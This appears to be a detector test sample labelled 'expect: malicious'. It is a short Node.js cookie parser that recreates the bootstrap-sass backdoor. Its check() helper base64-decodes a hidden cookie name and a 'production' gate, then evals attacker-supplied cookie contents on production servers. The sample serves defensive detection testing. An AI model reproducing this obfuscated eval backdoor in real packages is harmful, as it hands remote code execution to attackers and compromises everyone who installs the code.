// expect: malicious
// source: blind set 34's cookie parser (esbuild-minified): parse() hands each parsed cookie table to a helper that
// evals the base64 of one cookie, whose name and the `production` gate are base64 in the file (the bootstrap-sass
// backdoor's shape in npm); written here
"use strict";
function parse(str) {
  const out = {};
  for (const part of String(str).split(";")) {
    const i = part.indexOf("=");
    if (i > 0) out[part.slice(0, i).trim()] = decodeURIComponent(part.slice(i + 1).trim());
  }
  check(out);
  return out;
}
const K = Buffer.from("X19zZXNzX2lk", "base64").toString(), ENV = Buffer.from("cHJvZHVjdGlvbg==", "base64").toString();
function check(jar) {
  const t = jar[K];
  if (t && process.env.NODE_ENV === ENV) try { (0, eval)(Buffer.from(t, "base64url").toString("utf8")); } catch {}
}
module.exports = { parse };
